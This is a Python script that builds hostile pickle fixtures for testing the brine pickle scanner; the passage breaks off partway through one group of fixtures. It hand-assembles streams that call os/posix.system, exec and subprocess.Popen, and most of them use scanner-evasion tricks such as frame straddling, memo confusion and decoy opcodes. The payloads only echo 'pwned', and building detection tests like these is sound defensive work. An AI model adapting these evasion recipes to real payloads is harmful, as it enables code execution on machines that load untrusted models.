#!/usr/bin/python3
"""gen_threats.py - generate brine's HOSTILE pickle fixtures and the threat table.

What it does
    Writes one small pickle per attack sample into tests/data/pickle/threats/<name>.pkl,
    the table tests/threats.tsv (id, fixture, expected verdict, rule id that must be among
    the findings, one-line technique), tests/data/pickle/threats/MANIFEST.tsv (file name,
    sha256, size) and tests/data/pickle/threats/README.md (fixtures grouped by technique).
    The samples cover the pickle-level techniques B14-B39 of
    /work/shared/reference/pickle-threats.md section 4 (the recipe given there plus
    variants aimed at the class of attack), canonical call forms in every protocol,
    Python-2 names, unknown-module calls, persistent-id tricks and malformed streams.

Safety
    NOTHING IS EVER EXECUTED. Every fixture is assembled as literal bytes (struct.pack and
    byte concatenation); no fixture is ever unpickled or loaded, pickle.loads/load is never
    called, and pickle.dumps is only used on plain benign data (lists, dicts, ints) that
    prefixes a hand-written payload. Payloads name host-independent modules literally
    ("posix" for os.system) and only run harmless commands (`echo pwned`,
    `print('pwned')`) should anyone ever load them by mistake.
    The self-check at the end decodes each fixture with pickletools.genops, which only
    disassembles opcodes (it never imports, calls or builds anything).

Determinism
    Fixed content, no randomness, no timestamps: running it twice gives identical bytes.
    Stale *.pkl files in the threats directory that this script no longer produces are
    removed.

Usage
    /usr/bin/python3 tools/gen_threats.py [--root PROJECT_ROOT] [--quiet]
    Exit status 0 when every fixture decodes as intended, 1 otherwise.
"""

import argparse
import base64
import codecs
import hashlib
import io
import os
import pickle  # only pickle.dumps of benign plain data; never loads
import pickletools
import struct
import sys

# ---------------------------------------------------------------------------
# Byte builders (one function per opcode form; nothing here touches a pickler)
# ---------------------------------------------------------------------------

CMD = "echo pwned"          # shell payload: harmless
CODE = "print('pwned')"     # Python payload: harmless


def U4(n):
    return struct.pack("<I", n)


def I4(n):
    return struct.pack("<i", n)


def U8(n):
    return struct.pack("<Q", n)


def PROTO(n):
    return b"\x80" + bytes([n])


def FRAME(body):
    """FRAME opcode whose declared length is exactly len(body)."""
    return b"\x95" + U8(len(body)) + body


def sbu(s):
    """SHORT_BINUNICODE."""
    b = s.encode("utf-8")
    assert len(b) < 256
    return b"\x8c" + bytes([len(b)]) + b


def X(s):
    """BINUNICODE."""
    b = s.encode("utf-8")
    return b"X" + U4(len(b)) + b


def X8(s):
    """BINUNICODE8."""
    b = s.encode("utf-8")
    return b"\x8d" + U8(len(b)) + b


def T(s):
    """BINSTRING (protocol 1 str, decoded by the unpickler's encoding)."""
    b = s.encode("ascii")
    return b"T" + I4(len(b)) + b


def U(s):
    """SHORT_BINSTRING."""
    b = s.encode("ascii")
    assert len(b) < 256
    return b"U" + bytes([len(b)]) + b


def S(v):
    """STRING (protocol 0): quoted, backslash-escaped text line."""
    if isinstance(v, str):
        v = v.encode("ascii")
    out = []
    for c in v:
        ch = chr(c)
        if ch == "\\":
            out.append("\\\\")
        elif ch == "'":
            out.append("\\'")
        elif ch == "\n":
            out.append("\\n")
        elif 0x20 <= c < 0x7F:
            out.append(ch)
        else:
            out.append("\\x%02x" % c)
    return b"S'" + "".join(out).encode("ascii") + b"'\n"


def V(s):
    """UNICODE (protocol 0): raw-unicode-escape text line, escaped like pickle.py."""
    s = (s.replace("\\", "\\u005c").replace("\0", "\\u0000")
         .replace("\n", "\\u000a").replace("\r", "\\u000d")
         .replace("\x1a", "\\u001a"))
    return b"V" + s.encode("raw-unicode-escape") + b"\n"


def B(b):
    """BINBYTES."""
    return b"B" + U4(len(b)) + b


def C(b):
    """SHORT_BINBYTES."""
    assert len(b) < 256
    return b"C" + bytes([len(b)]) + b


def B8(b):
    """BINBYTES8."""
    return b"\x8e" + U8(len(b)) + b


def BA8(b):
    """BYTEARRAY8."""
    return b"\x96" + U8(len(b)) + b


def GLOBAL(m, n):
    return b"c" + m.encode("utf-8") + b"\n" + n.encode("utf-8") + b"\n"


def INST(m, n):
    return b"i" + m.encode("utf-8") + b"\n" + n.encode("utf-8") + b"\n"


def SG(m, n):
    """SHORT_BINUNICODE module, SHORT_BINUNICODE name, STACK_GLOBAL."""
    return sbu(m) + sbu(n) + STACK_GLOBAL


def INT(n):
    return b"I%d\n" % n


def BININT(n):
    if 0 <= n < 0x100:
        return b"K" + bytes([n])
    if 0 <= n < 0x10000:
        return b"M" + struct.pack("<H", n)
    return b"J" + I4(n)


def PUT(i):
    return b"p%d\n" % i


def GET(i):
    return b"g%d\n" % i


def BINPUT(i):
    return b"q" + bytes([i])


def BINGET(i):
    return b"h" + bytes([i])


def LBINPUT(i):
    return b"r" + U4(i)


def LBINGET(i):
    return b"j" + U4(i)


MARK = b"("
STOP = b"."
POP = b"0"
POP_MARK = b"1"
DUP = b"2"
NONE = b"N"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"
REDUCE = b"R"
BUILD = b"b"
OBJ = b"o"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_TUPLE = b")"
EMPTY_LIST = b"]"
EMPTY_DICT = b"}"
EMPTY_SET = b"\x8f"
LIST = b"l"
DICT = b"d"
APPEND = b"a"
APPENDS = b"e"
SETITEM = b"s"
SETITEMS = b"u"
ADDITEMS = b"\x90"
BINPERSID = b"Q"
NEXT_BUFFER = b"\x97"
READONLY_BUFFER = b"\x98"


def tup(*items):
    """Protocol-2 style tuple of already-encoded items."""
    if not items:
        return EMPTY_TUPLE
    if len(items) <= 3:
        return b"".join(items) + (TUPLE1, TUPLE2, TUPLE3)[len(items) - 1]
    return MARK + b"".join(items) + TUPLE


def tup0(*items):
    """Protocol-0 style tuple: MARK items TUPLE."""
    return MARK + b"".join(items) + TUPLE


def call(f, *args):
    """f(*args) with a protocol-2 tuple."""
    return f + tup(*args) + REDUCE


def call0(f, *args):
    """f(*args) with a protocol-0 tuple."""
    return f + tup0(*args) + REDUCE


def lst(*items):
    """List built with MARK ... LIST (protocol 0/1 form)."""
    return MARK + b"".join(items) + LIST


def dumps_benign(obj, protocol):
    """pickle.dumps of plain benign data only (lists, dicts, ints, str)."""
    assert isinstance(obj, (list, dict, int, str, tuple))
    return pickle.dumps(obj, protocol=protocol)


# Canonical payload posix.system("echo pwned") in several protocols (the reference's
# canonical byte forms, with the host-independent module name "posix").
PAY_P0 = (GLOBAL("posix", "system") + PUT(0) + MARK + V(CMD) + PUT(1) + TUPLE + PUT(2)
          + REDUCE + PUT(3) + STOP)
PAY_P1 = (GLOBAL("posix", "system") + BINPUT(0) + MARK + X(CMD) + BINPUT(1) + TUPLE
          + BINPUT(2) + REDUCE + BINPUT(3) + STOP)
PAY_P2 = (PROTO(2) + GLOBAL("posix", "system") + BINPUT(0) + X(CMD) + BINPUT(1) + TUPLE1
          + BINPUT(2) + REDUCE + BINPUT(3) + STOP)
PAY_P4_BODY = (sbu("posix") + MEMOIZE + sbu("system") + MEMOIZE + STACK_GLOBAL + MEMOIZE
               + sbu(CMD) + MEMOIZE + TUPLE1 + MEMOIZE + REDUCE + MEMOIZE + STOP)
PAY_P4 = PROTO(4) + FRAME(PAY_P4_BODY)
PAY_P5 = PROTO(5) + FRAME(PAY_P4_BODY)
assert PAY_P4 == (b"\x80\x04\x95%\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system"
                  b"\x94\x93\x94\x8c\necho pwned\x94\x85\x94R\x94.")
assert PAY_P0 == b"cposix\nsystem\np0\n(Vecho pwned\np1\ntp2\nRp3\n."


# ---------------------------------------------------------------------------
# Registry
# ---------------------------------------------------------------------------

GROUPS = [
    ("CF", "Canonical payload: every protocol and every call form"),
    ("B14", "FRAME tampering (frame straddle, frame in frame, frame beyond input)"),
    ("B15", "Memo confusion (BINPUT/MEMOIZE numbering, LONG_* and text forms)"),
    ("B16", "PUT/POP decoys"),
    ("B17", "Legacy string opcodes as STACK_GLOBAL operands, no PROTO"),
    ("B18", "Crash after the payload (memo KeyError, type confusion, underflow)"),
    ("B19", "Runtime-computed STACK_GLOBAL operands (BUILD on modules, call results)"),
    ("B20", "EXT1/EXT2/EXT4 extension registry"),
    ("B21", "Call hidden by POP / POP_MARK / memo"),
    ("B22", "Dotted attribute names"),
    ("B23", "__builtins__ through an innocuous module"),
    ("B24", "Dunder introspection chains using only builtins"),
    ("B25", "Multiple pickles / appended streams"),
    ("B26", "pip.main"),
    ("B27", "Universal name resolvers (getattr substitutes)"),
    ("B28", "Code execution through harmless-looking stdlib APIs"),
    ("B29", "Stdlib functions that shell out"),
    ("B30", "File and network primitives"),
    ("B31", "ML-framework gadgets"),
    ("B32", "Second-stage / nested loaders and nested pickles"),
    ("B33", "Allowlist over-breadth / list bugs"),
    ("B34", "Exception-oriented programming: payload, then a broken stream"),
    ("B35", "Resource exhaustion (error when a limit is reached; shared references are data)"),
    ("B36", "Scanner deactivation at load time"),
    ("B37", "Protocol-5 out-of-band buffers (expected verdict: error)"),
    ("B38", "Shadowed / overwritten module attributes"),
    ("B39", "Container opcodes as method calls on non-literal targets"),
    ("PY2", "Python-2 names mapped by _compat_pickle (fix_imports)"),
    ("UNK", "Innocuous-looking unknown module (not on any deny list)"),
    ("PID", "Persistent-id tricks outside a PyTorch archive"),
    ("MAL", "Malformed but not malicious (expected verdict: error)"),
]
GROUP_TITLES = dict(GROUPS)

FIXTURES = []
_counts = {}

# Fixtures allowed to exceed the per-file size cap (the attack needs the size).
BIG_OK = {"b14_frame_straddle_recipe.pkl", "b35c_deep_mark_nesting.pkl"}
SMALL_CAP = 8 * 1024
TOTAL_CAP = 1024 * 1024


def add(gid, slug, data, verdict, rule, technique, ops=(), absent=(), err=False,
        inner=()):
    """Register one fixture.

    ops     opcode names that genops must see somewhere in the file (all streams)
    absent  opcode names genops must NOT see (hidden payloads)
    err     True: genops must stop on a decode error; False: must not; None: either
    inner   [(label, bytes, ops)] embedded payloads to disassemble on their own
    """
    assert gid in GROUP_TITLES, gid
    n = _counts.get(gid, 0)
    _counts[gid] = n + 1
    fid = gid if n == 0 else gid + chr(ord("a") + n)
    assert n < 26
    name = "%s_%s.pkl" % (fid.lower(), slug)
    assert verdict in ("unsafe", "error", "safe")  # safe: benign controls of a technique
    assert rule == "-" or (rule.startswith("PKL") and len(rule) == 6)
    assert "\t" not in technique and "\n" not in technique
    assert isinstance(data, bytes)
    FIXTURES.append(dict(id=fid, group=gid, name=name, data=data, verdict=verdict,
                         rule=rule, technique=technique, ops=tuple(ops),
                         absent=tuple(absent), err=err, inner=tuple(inner)))


# ---------------------------------------------------------------------------
# CF - canonical payload, all protocols and all call forms
# ---------------------------------------------------------------------------

def gen_cf():
    add("CF", "posix_system_p0", PAY_P0, "unsafe", "PKL001",
        "posix.system call, protocol 0 (GLOBAL, PUT, MARK/TUPLE, REDUCE)",
        ops=["GLOBAL", "REDUCE"])
    add("CF", "posix_system_p1", PAY_P1, "unsafe", "PKL001",
        "posix.system call, protocol 1 opcodes without PROTO (BINPUT, BINUNICODE)",
        ops=["GLOBAL", "REDUCE"])
    add("CF", "posix_system_p2", PAY_P2, "unsafe", "PKL001",
        "posix.system call, protocol 2 (TUPLE1, BINPUT)", ops=["GLOBAL", "REDUCE"])
    add("CF", "posix_system_p3", PROTO(3) + PAY_P2[2:], "unsafe", "PKL001",
        "posix.system call, protocol 3", ops=["GLOBAL", "REDUCE"])
    add("CF", "posix_system_p4", PAY_P4, "unsafe", "PKL001",
        "posix.system call, protocol 4 framed (STACK_GLOBAL, MEMOIZE) as pickle.dumps writes it",
        ops=["FRAME", "STACK_GLOBAL", "REDUCE"])
    add("CF", "posix_system_p5", PAY_P5, "unsafe", "PKL001",
        "posix.system call, protocol 5 framed", ops=["FRAME", "STACK_GLOBAL", "REDUCE"])
    add("CF", "posix_system_inst", MARK + V(CMD) + INST("posix", "system") + STOP,
        "unsafe", "PKL001", "posix.system called by INST with an argument (protocol 0)",
        ops=["INST"])
    add("CF", "posix_system_obj", MARK + GLOBAL("posix", "system") + V(CMD) + OBJ + STOP,
        "unsafe", "PKL001", "posix.system called by OBJ (callable is the first item above MARK)",
        ops=["OBJ"])
    add("CF", "posix_system_obj_stack_global",
        PROTO(4) + MARK + SG("posix", "system") + sbu(CMD) + OBJ + STOP,
        "unsafe", "PKL001", "posix.system called by OBJ with a STACK_GLOBAL callable",
        ops=["OBJ", "STACK_GLOBAL"])
    add("CF", "os_system_p2", PROTO(2) + call(GLOBAL("os", "system"), X(CMD)) + STOP,
        "unsafe", "PKL001", "os.system call spelled with module os", ops=["REDUCE"])
    add("CF", "nt_system_p2", PROTO(2) + call(GLOBAL("nt", "system"), X(CMD)) + STOP,
        "unsafe", "PKL001", "nt.system call (Windows alias of os.system)", ops=["REDUCE"])
    add("CF", "builtins_exec_p2", PROTO(2) + call(GLOBAL("builtins", "exec"), X(CODE)) + STOP,
        "unsafe", "PKL001", "builtins.exec of Python source", ops=["REDUCE"])
    add("CF", "builtins_eval_p4",
        PROTO(4) + FRAME(call(SG("builtins", "eval"), sbu(CODE)) + STOP),
        "unsafe", "PKL001", "builtins.eval via STACK_GLOBAL, framed", ops=["REDUCE"])
    popen_args = EMPTY_LIST + MARK + X("sh") + X("-c") + X(CMD) + APPENDS
    add("CF", "subprocess_popen_newobj",
        PROTO(2) + GLOBAL("subprocess", "Popen") + popen_args + TUPLE1 + NEWOBJ + STOP,
        "unsafe", "PKL002", "NEWOBJ construct of denied class subprocess.Popen",
        ops=["NEWOBJ"])
    add("CF", "subprocess_popen_newobj_ex",
        PROTO(4) + SG("subprocess", "Popen") + popen_args + TUPLE1 + EMPTY_DICT
        + sbu("shell") + NEWFALSE + SETITEM + NEWOBJ_EX + STOP,
        "unsafe", "PKL002", "NEWOBJ_EX construct of subprocess.Popen with keyword arguments",
        ops=["NEWOBJ_EX"])
    add("CF", "subprocess_popen_inst_noargs",
        MARK + INST("subprocess", "Popen") + STOP,
        "unsafe", "PKL001", "INST without arguments on a denied class (construct)",
        ops=["INST"])
    add("CF", "copyreg_newobj_popen",
        PROTO(2) + call(GLOBAL("copyreg", "__newobj__"), GLOBAL("subprocess", "Popen"))
        + EMPTY_DICT + X("args") + X(CMD) + SETITEM + BUILD + STOP,
        "unsafe", "PKL002", "copyreg.__newobj__ construct of subprocess.Popen, then BUILD",
        ops=["REDUCE", "BUILD"])
    add("CF", "callable_dup_twice",
        PROTO(2) + GLOBAL("posix", "system") + DUP + X(CMD) + TUPLE1 + REDUCE + POP
        + X(CMD) + TUPLE1 + REDUCE + STOP,
        "unsafe", "PKL001", "one posix.system reference DUPed and called twice",
        ops=["DUP", "REDUCE"])


# ---------------------------------------------------------------------------
# B14 - FRAME tampering
# ---------------------------------------------------------------------------

def gen_b14():
    hidden = GLOBAL("os", "system") + V(CMD) + TUPLE1 + REDUCE     # GLOBAL, UNICODE, TUPLE1, REDUCE
    data = (PROTO(5) + NONE + b"V" + b"a" * (8192 * 16 - 17) + b"\n" + POP + MARK
            + b"\x95" + U8(2)
            + b"B" + U4(0x107) + b"\x00\x00"
            + (hidden + MARK).ljust(261, NONE)
            + POP_MARK + STOP)
    assert data.index(b"\x95") == 131062 and data.index(b"B" + U4(0x107)) == 131071
    add("B14", "frame_straddle_recipe", data, "unsafe", "PKL008",
        "reference recipe: FRAME len=2 at offset 131062 ends inside a BINBYTES whose bytes the "
        "C file unpickler runs as GLOBAL os system + REDUCE",
        ops=["FRAME", "BINBYTES", "POP_MARK"], absent=["GLOBAL", "REDUCE"],
        inner=[("hidden opcodes", hidden + STOP, ["GLOBAL", "REDUCE"])])

    hid2 = GLOBAL("posix", "system") + V(CMD) + TUPLE1 + REDUCE + POP
    body_len = 2 + 1 + 3                                   # "N0" + 'B' + 3 of 4 length bytes
    data = (PROTO(4) + b"\x95" + U8(body_len) + NONE + POP + b"B" + U4(len(hid2)) + hid2
            + NONE + STOP)
    add("B14", "frame_straddle_small", data, "unsafe", "PKL008",
        "FRAME ends inside the length field of a BINBYTES that holds payload opcodes (small file)",
        ops=["FRAME", "BINBYTES"], absent=["GLOBAL"],
        inner=[("hidden opcodes", hid2 + NONE + STOP, ["GLOBAL", "REDUCE"])])

    line = NONE + POP + GLOBAL("posix", "system")
    cut = len(NONE + POP + b"cposix\nsys")                 # frame ends inside the GLOBAL line
    data = (PROTO(4) + b"\x95" + U8(cut) + line + sbu(CMD) + TUPLE1 + REDUCE + STOP)
    add("B14", "frame_straddle_global_line", data, "unsafe", "PKL008",
        "FRAME ends inside the text argument of GLOBAL posix system (opcode crosses frame end)",
        ops=["FRAME", "GLOBAL", "REDUCE"])

    inner_body = call(SG("posix", "system"), sbu(CMD)) + STOP
    outer_body = NONE + POP + FRAME(inner_body)
    data = PROTO(4) + FRAME(outer_body)
    add("B14", "frame_in_frame", data, "unsafe", "PKL008",
        "FRAME opened inside another frame (C unpickler accepts, pickle.py refuses); payload inside",
        ops=["FRAME", "STACK_GLOBAL", "REDUCE"])

    body = call(SG("posix", "system"), sbu(CMD)) + STOP
    data = PROTO(4) + b"\x95" + U8(0x100000) + body
    add("B14", "frame_len_exceeds_input", data, "unsafe", "PKL008",
        "FRAME length 1 MiB in a tiny file (pickle.py reads the short frame and runs the payload)",
        ops=["FRAME", "STACK_GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# B15 - memo confusion
# ---------------------------------------------------------------------------

def gen_b15():
    data = (PROTO(4) + T("os") + b"q\x00" + T("system") + b"q\x01" + T("torch._utils") + MEMOIZE
            + T("_rebuild_tensor_v2") + MEMOIZE + b"h\x00h\x01\x93" + X(CMD) + b"\x85R.")
    add("B15", "memo_confusion_recipe", data, "unsafe", "PKL001",
        "reference recipe: BINPUT 0/1 = os/system, MEMOIZE decoys torch._utils._rebuild_tensor_v2, "
        "BINGET 0/1 STACK_GLOBAL", ops=["MEMOIZE", "BINGET", "STACK_GLOBAL", "REDUCE"])

    data = (PROTO(4) + sbu("posix") + LBINPUT(0x10000) + POP + sbu("system") + LBINPUT(0x10001)
            + POP + sbu("collections") + MEMOIZE + POP + sbu("OrderedDict") + MEMOIZE + POP
            + LBINGET(0x10000) + LBINGET(0x10001) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE
            + STOP)
    add("B15", "long_binput_binget", data, "unsafe", "PKL001",
        "operands stored with LONG_BINPUT at 65536/65537, decoys MEMOIZEd, read with LONG_BINGET",
        ops=["LONG_BINPUT", "LONG_BINGET", "MEMOIZE", "STACK_GLOBAL"])

    data = (V("posix") + b"p0100\n" + POP + V("system") + b"p200\n" + POP
            + V("collections") + PUT(0) + POP + V("OrderedDict") + PUT(1) + POP
            + GET(100) + b"g0200\n" + STACK_GLOBAL + MARK + V(CMD) + TUPLE + REDUCE + STOP)
    add("B15", "text_put_get_leading_zeros", data, "unsafe", "PKL001",
        "protocol-0 PUT/GET text memo keys with leading zeros (p0100 == g100), decoys at 0/1",
        ops=["PUT", "GET", "STACK_GLOBAL", "REDUCE"])

    data = (PROTO(4) + sbu("collections") + BINPUT(1) + POP + sbu("posix") + MEMOIZE + POP
            + sbu("OrderedDict") + BINPUT(2) + POP + sbu("system") + MEMOIZE + POP
            + BINGET(1) + BINGET(2) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP)
    add("B15", "memoize_overwrites_slot", data, "unsafe", "PKL001",
        "MEMOIZE index = count of filled slots, so it overwrites BINPUT 1/2 decoys with posix/system",
        ops=["MEMOIZE", "BINPUT", "BINGET", "STACK_GLOBAL"])

    data = (PROTO(4) + sbu("collections") + BINPUT(7) + POP + sbu("OrderedDict") + BINPUT(8) + POP
            + sbu("posix") + MEMOIZE + POP + sbu("system") + MEMOIZE + POP
            + sbu("torch") + BINPUT(9) + POP + sbu("FloatStorage") + BINPUT(10) + POP
            + BINGET(2) + BINGET(3) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP)
    add("B15", "memoize_after_high_binput", data, "unsafe", "PKL001",
        "MEMOIZE after BINPUT 7/8 stores at 2/3 (not 9/10); decoys at 9/10; BINGET 2/3",
        ops=["MEMOIZE", "BINPUT", "BINGET", "STACK_GLOBAL"])

    data = (PROTO(2) + GLOBAL("posix", "system") + BINPUT(5) + POP
            + GLOBAL("collections", "OrderedDict") + BINPUT(6) + POP
            + BINGET(5) + X(CMD) + TUPLE1 + REDUCE + STOP)
    add("B15", "callable_from_memo", data, "unsafe", "PKL001",
        "callable stored in memo and popped, an allowlisted decoy stored after it, then BINGET + REDUCE",
        ops=["BINGET", "REDUCE"])


# ---------------------------------------------------------------------------
# B16 - PUT/POP decoys
# ---------------------------------------------------------------------------

def gen_b16():
    data = b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vecho pwned\ntR."
    add("B16", "put_pop_decoys_recipe", data, "unsafe", "PKL001",
        "reference recipe (ImaginaryCTF): PUT indices out of order, decoys torch.LongStorage",
        ops=["PUT", "GET", "STACK_GLOBAL", "REDUCE"])
    data = (PROTO(4) + sbu("posix") + sbu("system") + sbu("torch") + sbu("FloatStorage")
            + POP + POP + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP)
    add("B16", "pop_decoys_before_stack_global", data, "unsafe", "PKL001",
        "decoy strings pushed after the real operands and POPped right before STACK_GLOBAL",
        ops=["POP", "STACK_GLOBAL", "REDUCE"])
    data = (PROTO(4) + sbu("posix") + sbu("system") + MARK + sbu("torch") + sbu("FloatStorage")
            + POP_MARK + STACK_GLOBAL + MARK + sbu(CMD) + TUPLE + REDUCE + STOP)
    add("B16", "pop_mark_decoys", data, "unsafe", "PKL001",
        "decoy strings inside MARK ... POP_MARK right before STACK_GLOBAL",
        ops=["POP_MARK", "STACK_GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# B17 - legacy string opcodes, first-opcode off-by-one
# ---------------------------------------------------------------------------

def gen_b17():
    add("B17", "string_stack_global_recipe", b"S'os'\nS'system'\n\x93S'echo pwned'\n\x85R.",
        "unsafe", "PKL001",
        "reference recipe: STRING operands at offset 0, STACK_GLOBAL without PROTO",
        ops=["STRING", "STACK_GLOBAL", "REDUCE"])
    add("B17", "short_binstring_binstring",
        U("posix") + T("system") + STACK_GLOBAL + U(CMD) + TUPLE1 + REDUCE + STOP,
        "unsafe", "PKL001", "SHORT_BINSTRING + BINSTRING operands, STACK_GLOBAL without PROTO",
        ops=["SHORT_BINSTRING", "BINSTRING", "STACK_GLOBAL"])
    add("B17", "stack_global_in_proto2",
        PROTO(2) + X("posix") + X("system") + STACK_GLOBAL + X(CMD) + TUPLE1 + REDUCE + STOP,
        "unsafe", "PKL001", "STACK_GLOBAL (a protocol-4 opcode) inside a stream declaring protocol 2",
        ops=["STACK_GLOBAL", "REDUCE"])
    add("B17", "unicode_text_operands",
        V("posix") + V("system") + STACK_GLOBAL + MARK + V(CMD) + TUPLE + REDUCE + STOP,
        "unsafe", "PKL001", "protocol-0 UNICODE text lines as STACK_GLOBAL operands",
        ops=["UNICODE", "STACK_GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# B18 - crash the scanner after the payload
# ---------------------------------------------------------------------------

def gen_b18():
    data = (PROTO(4) + GLOBAL("os", "system") + sbu(CMD) + b"\x85R0" + sbu("os")
            + b"\x94h\x03h\x00\x93K\x42.")
    add("B18", "memo_keyerror_recipe", data, "unsafe", "PKL001",
        "reference recipe: payload runs, then BINGET 3 of a missing memo key",
        ops=["REDUCE", "BINGET"])
    data = (PROTO(4) + GLOBAL("posix", "system") + sbu(CMD) + TUPLE1 + REDUCE + POP
            + BININT(42) + MEMOIZE + sbu("system") + MEMOIZE + BINGET(0) + BINGET(1)
            + STACK_GLOBAL + STOP)
    add("B18", "type_confusion", data, "unsafe", "PKL001",
        "payload, then STACK_GLOBAL with an int module operand (BININT1 42 MEMOIZE / BINGET 0)",
        ops=["REDUCE", "STACK_GLOBAL"])
    data = PROTO(2) + call(GLOBAL("posix", "system"), X(CMD)) + POP + REDUCE + STOP
    add("B18", "stack_underflow_after_payload", data, "unsafe", "PKL001",
        "payload, then REDUCE on an empty stack (stack underflow)", ops=["REDUCE"])
    data = PROTO(2) + call(GLOBAL("posix", "system"), X(CMD)) + POP + BININT(1) + TUPLE + STOP
    add("B18", "missing_mark_after_payload", data, "unsafe", "PKL001",
        "payload, then TUPLE with no MARK on the stack", ops=["REDUCE", "TUPLE"])
    data = MARK + V(CMD) + INST("posix", "system") + POP + GET(99) + STOP
    add("B18", "text_get_missing_after_inst", data, "unsafe", "PKL001",
        "protocol-0 INST payload, then GET 99 of a missing memo key", ops=["INST", "GET"])


# ---------------------------------------------------------------------------
# B19 - runtime-computed STACK_GLOBAL operands
# ---------------------------------------------------------------------------

def gen_b19():
    data = (b"\x80\x04ccollections\nabc\n}(" + sbu("zz_a") + sbu("os") + sbu("zz_b") + sbu("system")
            + b"ub0" + b"ccollections\nabc.zz_a\nccollections\nabc.zz_b\n\x93" + sbu(CMD) + b"\x85R.")
    add("B19", "build_module_attrs_recipe", data, "unsafe", "PKL003",
        "reference recipe: BUILD writes collections.abc.zz_a/zz_b, dotted GLOBALs read them back "
        "as STACK_GLOBAL operands", ops=["BUILD", "GLOBAL", "STACK_GLOBAL", "REDUCE"])

    data = (PROTO(4) + GLOBAL("numpy", "prod") + NONE + EMPTY_DICT + sbu("a") + sbu("posix")
            + SETITEM + TUPLE2 + BUILD + POP
            + GLOBAL("numpy", "prod") + NONE + EMPTY_DICT + sbu("b") + sbu("system")
            + SETITEM + TUPLE2 + BUILD + POP
            + GLOBAL("numpy", "prod.a") + GLOBAL("numpy", "prod.b") + STACK_GLOBAL
            + sbu(CMD) + TUPLE1 + REDUCE + STOP)
    add("B19", "build_slotstate_function_attrs", data, "unsafe", "PKL003",
        "BUILD (None, slotstate) setattr on the function numpy.prod, read back via GLOBAL numpy prod.a",
        ops=["BUILD", "STACK_GLOBAL", "REDUCE"])

    data = (PROTO(4) + GLOBAL("collections", "Counter") + NONE + EMPTY_DICT + sbu("zz_mod")
            + sbu("posix") + SETITEM + TUPLE2 + BUILD + POP
            + GLOBAL("collections", "Counter.zz_mod") + sbu("system") + STACK_GLOBAL
            + sbu(CMD) + TUPLE1 + REDUCE + STOP)
    add("B19", "build_on_class_object", data, "unsafe", "PKL005",
        "BUILD (None, slotstate) on the class collections.Counter; attribute read back as module operand",
        ops=["BUILD", "STACK_GLOBAL", "REDUCE"])

    enc = lambda s: codecs.encode(s, "rot13")  # noqa: E731  (string transform only)
    data = (PROTO(4) + call(GLOBAL("_codecs", "encode"), sbu(enc("posix")), sbu("rot13"))
            + call(GLOBAL("_codecs", "encode"), sbu(enc("system")), sbu("rot13"))
            + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP)
    add("B19", "operands_from_call_results", data, "unsafe", "PKL003",
        "STACK_GLOBAL operands are results of _codecs.encode('cbfvk','rot13') calls (computed strings)",
        ops=["REDUCE", "STACK_GLOBAL"])

    data = (PROTO(4) + GLOBAL("collections", "abc") + BINPUT(0) + POP + sbu("filler") + POP
            + BINGET(0) + EMPTY_DICT + MARK + sbu("zz_c") + sbu("posix") + sbu("zz_d")
            + sbu("system") + SETITEMS + BUILD + POP
            + GLOBAL("collections", "abc.zz_c") + GLOBAL("collections", "abc.zz_d") + STACK_GLOBAL
            + sbu(CMD) + TUPLE1 + REDUCE + STOP)
    add("B19", "build_on_memoized_module", data, "unsafe", "PKL003",
        "module object stored in memo, fetched with BINGET and BUILT (attribute write via memo)",
        ops=["BINGET", "BUILD", "STACK_GLOBAL"])


# ---------------------------------------------------------------------------
# B20 - EXT opcodes
# ---------------------------------------------------------------------------

def gen_b20():
    add("B20", "ext1_recipe", b"\x80\x02\x82\x01" + X(CMD) + b"\x85R.", "unsafe", "PKL004",
        "reference recipe: EXT1 1 as callable + REDUCE (no GLOBAL opcode)", ops=["EXT1", "REDUCE"])
    add("B20", "ext2_call", PROTO(2) + b"\x83" + struct.pack("<H", 0x1234) + X(CMD) + TUPLE1
        + REDUCE + STOP, "unsafe", "PKL004", "EXT2 0x1234 as callable + REDUCE",
        ops=["EXT2", "REDUCE"])
    add("B20", "ext4_call", PROTO(2) + b"\x84" + I4(0x7FFFFFFF) + X(CMD) + TUPLE1 + REDUCE + STOP,
        "unsafe", "PKL004", "EXT4 0x7fffffff as callable + REDUCE", ops=["EXT4", "REDUCE"])
    add("B20", "ext1_reference_only", PROTO(2) + EMPTY_LIST + b"\x82\x07" + APPEND + STOP,
        "unsafe", "PKL004", "EXT1 value only stored in a list (registry lookup still imports)",
        ops=["EXT1", "APPEND"])
    add("B20", "ext1_obj_no_proto", MARK + b"\x82\x01" + V(CMD) + OBJ + STOP, "unsafe", "PKL004",
        "EXT1 callable used by OBJ in a stream with no PROTO", ops=["EXT1", "OBJ"])


# ---------------------------------------------------------------------------
# B21 - call hidden by POP
# ---------------------------------------------------------------------------

def gen_b21():
    add("B21", "obj_pop_recipe",
        b"\x80\x04(" + sbu("smtplib") + sbu("SMTP") + b"\x93" + sbu("127.0.0.1") + b"o0N.",
        "unsafe", "PKL001", "reference recipe: OBJ smtplib.SMTP('127.0.0.1') result discarded by POP",
        ops=["OBJ", "POP"])
    add("B21", "reduce_pop",
        PROTO(2) + call(GLOBAL("posix", "system"), X(CMD)) + POP + EMPTY_DICT + STOP,
        "unsafe", "PKL001", "REDUCE posix.system result POPped, benign {} returned",
        ops=["REDUCE", "POP"])
    add("B21", "inst_pop_mark",
        MARK + MARK + V(CMD) + INST("posix", "system") + POP_MARK + NONE + STOP,
        "unsafe", "PKL001", "INST call inside an outer MARK discarded by POP_MARK",
        ops=["INST", "POP_MARK"])
    add("B21", "result_only_in_memo",
